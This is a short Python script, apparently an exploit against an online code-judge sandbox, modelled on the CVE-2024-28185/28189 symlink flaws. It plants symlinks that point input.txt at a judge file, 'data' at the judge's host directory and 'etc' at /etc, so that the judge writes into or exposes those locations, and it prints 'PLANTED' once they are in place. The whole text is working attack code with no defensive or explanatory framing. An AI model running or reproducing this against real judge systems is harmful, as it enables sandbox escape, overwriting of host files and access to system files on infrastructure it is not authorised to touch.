# Plant symlinks where the judge will write next (CVE-2024-28185/28189 style):
# input.txt -> a judge file, data -> the judge's directory.
import os

host = os.environ["HOST_DIR"]
os.symlink(host + "/target.txt", "input.txt")
os.symlink(host, "data")
os.symlink("/etc", "etc")
print("PLANTED")
